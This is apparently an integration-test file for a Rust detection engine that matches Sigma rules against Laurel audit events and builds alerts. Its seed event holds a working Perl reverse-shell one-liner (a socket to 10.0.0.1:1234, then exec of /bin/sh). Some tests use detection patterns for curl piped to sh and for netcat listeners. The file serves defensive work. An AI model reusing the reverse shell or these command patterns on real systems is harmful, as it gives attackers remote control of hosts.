//! From a line to its alerts, by the public interface alone.

use std::sync::Arc;

use detect::{Alert, Detector, Limits, Line, Plan, Source};
use event::{Fault, Origin, ProcessCache, Profile};
use sigma::SourceFile;

/// A reverse shell in Perl, started by a process that is labelled `weblogic`; it carries no `success` and no `exe`.
const SEED: &str = r#"{"ID":"1626611363.720:348501","SYSCALL":{"PPID":{"EVENT_ID":"1626607554.859:32454","comm":"sh","exe":"/bin/sh"},"LABELS":["weblogic"]},"EXECVE":{"argc":3,"ARGV":["perl","-e","use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"]}}"#;

const PERL: &str = "
title: Perl opens a socket
id: 5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a001
status: test
level: high
author: Pythia
description: A one-line script that connects somewhere.
references: [https://example.org/perl]
tags: [attack.execution, attack.t1059.006, attack.command_and_control, attack.g0016]
fields: [CommandLine, ParentImage]
falsepositives: [Administrators]
team: {name: blue, priority: 1}
logsource: {product: linux, category: process_creation}
detection:
  socket:
    CommandLine|contains: 'use Socket'
  parent:
    ParentImage|endswith: '/sh'
  known:
    CommandLine|contains: backup
  condition: socket and parent and not known
";

fn detector(rules: &[&str]) -> Detector {
    let files: Vec<SourceFile> = rules
        .iter()
        .enumerate()
        .map(|(number, text)| SourceFile {
            name: format!("{number}.yml").into(),
            text: (*text).into(),
        })
        .collect();
    let loaded = sigma::load(&files);
    assert!(loaded.diagnostics.is_empty(), "{:#?}", loaded.diagnostics);
    let compiled = Plan::compile(loaded.rules);
    assert!(
        compiled.not_running.is_empty(),
        "{:#?}",
        compiled.not_running
    );
    Detector::new(Arc::new(compiled.plan), Arc::new(Profile::laurel()))
}

fn cache() -> ProcessCache {
    ProcessCache::new(1 << 20, 3_600_000)
}

fn file(text: &str, number: u64) -> Line<'_> {
    Line {
        bytes: text.as_bytes(),
        origin: Origin::default(),
        source: Source::File {
            file: "seed.jsonl",
            line: number,
        },
    }
}

fn run(detector: &mut Detector, line: &Line<'_>) -> Result<Vec<Alert>, Fault> {
    let mut alerts = Vec::new();
    detector
        .run(line, &mut cache(), &mut alerts)
        .map(|()| alerts)
}

fn json(alert: &Alert) -> serde_json::Value {
    serde_json::from_str(&alert.to_json()).unwrap()
}

#[test]
fn the_alert_shows_argument_parent_label_and_raw_line() {
    let alerts = run(&mut detector(&[PERL]), &file(SEED, 7)).unwrap();
    let [alert] = &alerts[..] else {
        panic!("one alert, not {}", alerts.len())
    };
    let alert = json(alert);
    assert_eq!(alert["time"], "2021-07-18T12:29:23.720Z");
    assert_eq!(alert["level"], "high");
    assert_eq!(alert["event"], SEED);
    assert_eq!(
        alert["source"],
        serde_json::json!({"file": "seed.jsonl", "line": 7})
    );
    assert_eq!(
        alert["asset"],
        serde_json::json!({"resolved": false, "state": "unknown"})
    );
    assert_eq!(alert["process"]["parent"]["exe"], "/bin/sh");
    assert_eq!(alert["process"]["labels"], serde_json::json!(["weblogic"]));
    let view = &alert["why"][0];
    assert_eq!(view["view"], "process_creation");
    assert_eq!(view["selections"][0]["name"], "socket");
    let found = &view["selections"][0]["matches"][0];
    assert_eq!(
        (found["field"].as_str(), found["path"].as_str()),
        (Some("CommandLine"), Some("EXECVE.ARGV[2]"))
    );
    assert_eq!(found["matcher"], "contains 'use Socket'");
    assert!(
        found["value"]
            .as_str()
            .unwrap()
            .starts_with("perl -e use Socket;")
    );
    let parent = &view["selections"][1]["matches"][0];
    assert_eq!(
        (parent["path"].as_str(), parent["value"].as_str()),
        (Some("SYSCALL.PPID.exe"), Some("/bin/sh"))
    );
    assert_eq!(view["selections"].as_array().unwrap().len(), 2);
}

#[test]
fn no_attribute_of_the_rule_is_lost_on_the_way_to_the_alert() {
    let alerts = run(&mut detector(&[PERL]), &file(SEED, 1)).unwrap();
    let rule = &json(&alerts[0])["rule"];
    for (name, value) in [
        ("id", "5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a001"),
        ("title", "Perl opens a socket"),
        ("status", "test"),
        ("level", "high"),
        ("author", "Pythia"),
        ("description", "A one-line script that connects somewhere."),
    ] {
        assert_eq!(rule[name], value, "{name}");
    }
    assert_eq!(
        rule["references"],
        serde_json::json!(["https://example.org/perl"])
    );
    assert_eq!(
        rule["falsepositives"],
        serde_json::json!(["Administrators"])
    );
    assert_eq!(rule["tags"].as_array().unwrap().len(), 4);
    let attack = serde_json::json!({"tactics": ["execution", "command-and-control"], "techniques": ["T1059.006"]});
    assert_eq!(rule["attack"], attack);
    assert_eq!(
        rule["custom"],
        serde_json::json!({"team": {"name": "blue", "priority": 1}})
    );
    assert_eq!(
        rule["fields"]["ParentImage"],
        serde_json::json!(["/bin/sh"])
    );
}

#[test]
fn the_alert_id_depends_on_rule_host_and_event_alone() {
    let mut detector = detector(&[PERL]);
    let id =
        |detector: &mut Detector, line: &Line<'_>| run(detector, line).unwrap()[0].alert_id.clone();
    let first = id(&mut detector, &file(SEED, 1));
    assert_eq!(id(&mut detector, &file(SEED, 2)), first);
    let kafka = Line {
        source: Source::Kafka {
            topic: "laurel",
            partition: 3,
            offset: 9,
        },
        ..file(SEED, 0)
    };
    assert_eq!(id(&mut detector, &kafka), first);
    // The same event in a shipper's envelope.
    let message = serde_json::json!({ "message": SEED }).to_string();
    assert_eq!(id(&mut detector, &file(&message, 1)), first);
    let of_host = Line {
        origin: Origin {
            host: Some(b"web-01"),
            ..Origin::default()
        },
        ..file(SEED, 1)
    };
    assert_ne!(id(&mut detector, &of_host), first);
    assert_ne!(
        id(&mut detector, &file(&SEED.replace("1234", "1235"), 1)),
        first
    );
    // A new version of the rule is the same rule.
    let mut changed = self::detector(&[&PERL.replace("level: high", "level: low")]);
    assert_eq!(id(&mut changed, &file(SEED, 1)), first);
}

#[test]
fn an_event_gives_at_most_64_alerts_the_most_severe_and_the_last_says_so() {
    let rules: Vec<String> = (0..70)
        .map(|number| {
            let level = if number < 69 { "low" } else { "critical" };
            format!(
                "title: Rule {number}\nid: r{number}\nlevel: {level}\nlogsource: {{product: linux, category: process_creation}}\n\
                 detection: {{selection: {{CommandLine|contains: perl}}, condition: selection}}\n"
            )
        })
        .collect();
    let mut detector = detector(&rules.iter().map(String::as_str).collect::<Vec<_>>());
    let alerts = run(&mut detector, &file(SEED, 1)).unwrap();
    assert_eq!(alerts.len(), 64);
    assert_eq!(alerts[0].rule_key(), "r69");
    assert!(
        alerts[..63]
            .iter()
            .all(|alert| alert.alerts_left_out.is_none())
    );
    assert_eq!(alerts[63].alerts_left_out, Some(6));
    let counts = detector.take_counts();
    assert_eq!(counts.rules.len(), 70);
    assert!(counts.rules.iter().all(|cost| cost.matches == 1));
    assert_eq!(
        counts
            .alerts_dropped
            .iter()
            .map(|(_, count)| count)
            .sum::<u64>(),
        6
    );
    assert!(detector.take_counts().rules.is_empty());
}

#[test]
fn each_limit_of_an_alert_is_reached_as_it_is_set_and_flagged() {
    let second = PERL
        .replace("5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a001", "second")
        .replace("level: high", "level: low");
    let usual = run(&mut detector(&[PERL, &second]), &file(SEED, 1)).unwrap();
    assert_eq!(usual.len(), 2);
    assert!(
        usual
            .iter()
            .all(|alert| !alert.why_truncated && !alert.event_truncated)
    );
    let mut tight = detector(&[PERL, &second]).with_limits(Limits {
        alerts_per_event: 1,
        why_bytes: 256,
        event_bytes: 100,
    });
    let alerts = run(&mut tight, &file(SEED, 1)).unwrap();
    let [alert] = &alerts[..] else {
        panic!("one alert, not {}", alerts.len())
    };
    assert_eq!((alert.level, alert.alerts_left_out), ("high", Some(1)));
    assert_eq!(tight.take_counts().alerts_dropped.len(), 1);
    // The first match stands in `why` in any case.
    assert!(alert.why_truncated);
    assert_eq!(alert.why[0].selections.len(), 1);
    assert!(alert.event_truncated && SEED.starts_with(&*alert.event));
    assert!((90..=102).contains(&json(alert)["event"].to_string().len()));
    // What is cut changes no id.
    assert_eq!(alert.alert_id, usual[0].alert_id);
}

#[test]
fn one_alert_tells_of_all_views_that_matched() {
    let rule = "
title: Temporary file
id: tmp
logsource: {product: linux, service: auditd}
detection:
  selection: {type: PATH, name|startswith: /tmp/}
  condition: selection
";
    let event = r#"{"ID":"1700000000.123:1","PATH":[{"item":0,"name":"/tmp/a"},{"item":1,"name":"/etc/b"},{"item":2,"name":"/tmp/c"}]}"#;
    let alerts = run(&mut detector(&[rule]), &file(event, 1)).unwrap();
    assert_eq!(alerts.len(), 1);
    let records: Vec<_> = alerts[0]
        .why
        .iter()
        .map(|view| view.record.as_deref())
        .collect();
    assert_eq!(records, [Some("PATH[0]"), Some("PATH[2]")]);
    let paths: Vec<_> = alerts[0]
        .why
        .iter()
        .map(|view| view.selections[0].matches[1].path.as_deref())
        .collect();
    assert_eq!(paths, [Some("PATH[0].name"), Some("PATH[2].name")]);
    assert_eq!(alerts[0].level, "medium");
}

#[test]
fn bytes_that_are_no_utf8_are_shown_byte_by_byte() {
    let event =
        r#"{"ID":"1700000000.123:1","EXECVE":{"argc":2,"ARGV":["perl","use Socket %ff%00x"]}}"#;
    let rule = PERL.replace(
        "socket and parent and not known",
        "socket and not known and not parent",
    );
    let alerts = run(&mut detector(&[&rule]), &file(event, 1)).unwrap();
    let value = alerts[0].why[0].selections[0].matches[0].value.as_deref();
    assert_eq!(value, Some("perl use Socket \\xff\0x"));
    assert_eq!(alerts[0].main_value(), value);
}

/// The worst that an event can do: every text long and hard to encode.
#[test]
fn an_alert_fits_into_a_kafka_message_and_says_what_was_cut() {
    let rule = PERL.replace(
        "socket and parent and not known",
        "(socket or parent) and not known",
    );
    let mut detector = detector(&[&rule]);
    let long = "%01".repeat(400_000);
    let labels = vec!["x".repeat(3000); 40];
    let event = serde_json::json!({
        "ID": "1700000000.123:1",
        "NODE": "h".repeat(5000),
        "SYSCALL": {"exe": long, "LABELS": labels, "PPID": {"exe": long}},
        "EXECVE": {"argc": 2, "ARGV": [long, "use Socket"]},
        "CWD": {"cwd": long},
    });
    let event = event.to_string();
    let alert = run(&mut detector, &file(&event, 1)).unwrap().remove(0);
    let size = alert.to_json().len();
    assert!(size <= 1_000_000 && size > 900_000, "{size}");
    assert!(alert.event_truncated && alert.texts_truncated && alert.why_truncated);
    assert!(event.starts_with(&*alert.event));
    assert!(
        alert.why[0].selections[0].matches[0]
            .value
            .as_deref()
            .unwrap()
            .contains("use Socket")
    );
    // A long event that fits is whole.
    let fits = serde_json::json!({
        "ID": "1700000000.123:1",
        "EXECVE": {"argc": 2, "ARGV": ["a".repeat(800_000), "use Socket"]},
    })
    .to_string();
    let alert = run(&mut detector, &file(&fits, 1)).unwrap().remove(0);
    assert!(!alert.event_truncated && *alert.event == *fits);
}

#[test]
fn a_rule_whose_attributes_would_fill_every_alert_is_refused() {
    let rule = format!("{PERL}\nnotes: {}\n", "n".repeat(300_000));
    let file = SourceFile {
        name: "long.yml".into(),
        text: rule.into(),
    };
    let compiled = Plan::compile(sigma::load(&[file]).rules);
    assert!(
        compiled.not_running[0].reason.contains("of every alert"),
        "{}",
        compiled.not_running[0].reason
    );
}

#[test]
fn a_line_that_is_no_event_is_a_fault_and_gives_no_alert() {
    let mut detector = detector(&[PERL]);
    let cut = SEED.get(..200).unwrap();
    assert_eq!(
        run(&mut detector, &file(cut, 1)).err(),
        Some(Fault::Truncated)
    );
    assert_eq!(
        run(&mut detector, &file("{}", 1)).err(),
        Some(Fault::NoEvent)
    );
    assert!(detector.take_counts().rules.is_empty());
}

#[test]
fn counts_of_a_batch_tell_what_each_rule_was_looked_at_for() {
    let rule = |id: &str, detection: &str| {
        format!(
            "title: {id}\nid: {id}\nlogsource: {{product: linux, service: auditd}}\ndetection: {detection}\n"
        )
    };
    let rules = [
        rule("absent", "{s: {type: EXECVE, a0: nosuch}, condition: s}"),
        rule("fails", "{s: {a0: perl, a1|re: '^[xy]+$'}, condition: s}"),
        rule("holds", "{s: {a0: perl, a1: '-e'}, condition: s}"),
        rule("always", "{s: {a0: perl}, condition: not s}"),
    ];
    let mut detector = detector(&rules.each_ref().map(String::as_str));
    let older = SEED.replace("1626611363.720", "1626611300.001");
    for text in [SEED, &older] {
        run(&mut detector, &file(text, 1)).expect("an event");
    }
    let costs = detector.take_counts().rules;
    let latest = Some(1_626_611_363_720);
    let told = costs.iter().map(|cost| {
        assert_eq!(cost.cpu_ns, 0, "nobody gave a clock");
        let title = detector.plan().rule(cost.rule).attributes.title.as_str();
        (
            title,
            cost.candidates,
            cost.verifications,
            cost.matches,
            cost.last_match_ms,
        )
    });
    let told: Vec<_> = told.collect();
    assert_eq!(
        told,
        [
            ("fails", 2, 2, 0, None),
            ("holds", 2, 2, 2, latest),
            ("always", 2, 4, 2, latest)
        ]
    );
}

#[test]
fn counts_of_a_batch_name_the_newest_event_and_the_views_it_fed() {
    let mut detector = detector(&[PERL]);
    let older = SEED.replace("1626611363.720", "1626611300.001");
    for text in [SEED, &older] {
        detector
            .run(&file(text, 1), &mut cache(), &mut Vec::new())
            .expect("an event");
    }
    let counts = detector.take_counts();
    assert_eq!(counts.newest_ms, Some(1_626_611_363_720));
    assert_eq!(counts.views, [2, 0, 0, 0, 0, 0, 0]);
    assert_eq!(detector.take_counts().newest_ms, None);
}

/// A rule for process creation with this selection.
fn process_rule(selection: &str) -> String {
    format!(
        "title: T\nid: 5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a0ff\n\
         logsource: {{product: linux, category: process_creation}}\ndetection: {{s: {{{selection}}}, condition: s}}\n"
    )
}

fn alerts_of(rule: &str, line: &str) -> usize {
    let mut alerts = Vec::new();
    let ran = detector(&[rule]).run(&file(line, 1), &mut cache(), &mut alerts);
    ran.expect("an event");
    alerts.len()
}

/// Whoever writes an argument writes its bytes; one that is no UTF-8 must not end what a regular expression sees.
#[test]
fn a_byte_that_is_no_utf8_hides_nothing_from_a_regular_expression() {
    let line = |argument: &str| {
        format!(r#"{{"ID":"1700000000.123:1","EXECVE":{{"argc":2,"ARGV":["{argument}","|sh"]}}}}"#)
    };
    for pattern in [
        "curl.*sh$",
        "^/tmp/[^ ]*/curl",
        "^/tmp/../curl",
        "^/tmp/\\W\\W/curl",
    ] {
        let rule = process_rule(&format!(
            "CommandLine|re: '{}'",
            pattern.replace("\\\\", "\\")
        ));
        assert_eq!(alerts_of(&rule, &line("/tmp/%ff%fe/curl")), 1, "{pattern}");
        assert_eq!(alerts_of(&rule, &line("/tmp/%ff%fe/wget")), 0, "{pattern}");
    }
}

/// Laurel's prefix may begin like names of the kernel: those are no translations.
#[test]
fn a_prefix_takes_no_name_of_the_kernel_away() {
    let line = r#"{"ID":"1700000000.123:1","SYSCALL":{"success":"yes","exit":0,"euid":0,"exe":"/usr/bin/nc","earch":"x86_64","esyscall":"execve","epid":{"EVENT_ID":"1700000000.123:1"},"euid":0},"EXECVE":{"argc":1,"ARGV":["nc"]}}"#;
    assert_eq!(alerts_of(&process_rule("Image: /usr/bin/nc"), line), 1);
    let native = |selection: &str| {
        format!(
            "title: T\nid: 5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a0fe\nlogsource: {{product: linux, service: laurel}}\n\
             detection: {{s: {{{selection}}}, condition: s}}\n"
        )
    };
    let line =
        r#"{"ID":"1700000000.123:1","OBJ_PID":[{"opid":7,"x_opid":{"EVENT_ID":"1.000:1"}}]}"#;
    assert_eq!(
        alerts_of(&native("OBJ_PID.x_opid.EVENT_ID: '1.000:1'"), line),
        1
    );
}

/// The limit on `why` hides no selection that fits once.
#[test]
fn every_selection_shows_a_match_before_any_shows_a_second() {
    let rule = "
title: T
id: 5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a0fd
logsource: {product: linux, category: process_creation}
detection:
  many: {CommandLine|contains: [aa, ab, ac, ad, ae, af, ag, ah, ai, aj]}
  last: {CommandLine|contains: zz}
  condition: many and last
";
    let words = "aa ab ac ad ae af ag ah ai aj zz".repeat(20);
    let line = format!(r#"{{"ID":"1700000000.123:1","EXECVE":{{"argc":1,"ARGV":["{words}"]}}}}"#);
    let mut alerts = Vec::new();
    let ran = detector(&[rule]).run(&file(&line, 1), &mut cache(), &mut alerts);
    ran.expect("an event");
    let selections = &alerts[0].why[0].selections;
    let names: Vec<&str> = selections
        .iter()
        .map(|selection| selection.name.as_str())
        .collect();
    assert_eq!(names, ["many", "last"]);
    assert!(selections[0].matches.len() > 1 && alerts[0].why_truncated);
}

/// A program that writes lines anew may escape what it likes; the names stay the same.
#[test]
fn escaped_member_names_are_the_names_they_mean() {
    let rule = process_rule("CommandLine: nc -l");
    let lines = [
        r#"{"\u0049D":"1700000000.123:1","\u0045XECVE":{"argc":2,"\u0041RGV":["nc","-l"]}}"#,
        r#"<13>Nov 24 08:35:15 web-01 laurel: {"ID":"1700000000.123:1","EXECVE":{"ARGV":["id"],"ARG\u0056":["nc","-l"]}}"#,
        r#"{"mess\u0061ge":"{\"ID\":\"1700000000.123:1\",\"EXECV\\u0045\":{\"ARGV\":[\"nc\",\"-l\"]}}"}"#,
    ];
    for line in lines {
        assert_eq!(alerts_of(&rule, line), 1, "{line}");
    }
    let odd = r#"{"ID":"1700000000.123:1","a\"b\\c\u0000":1,"EXECVE":{"ARGV":["nc","-l"]}}"#;
    assert_eq!(
        alerts_of(&rule, odd),
        1,
        "names that need their escapes keep them"
    );
}
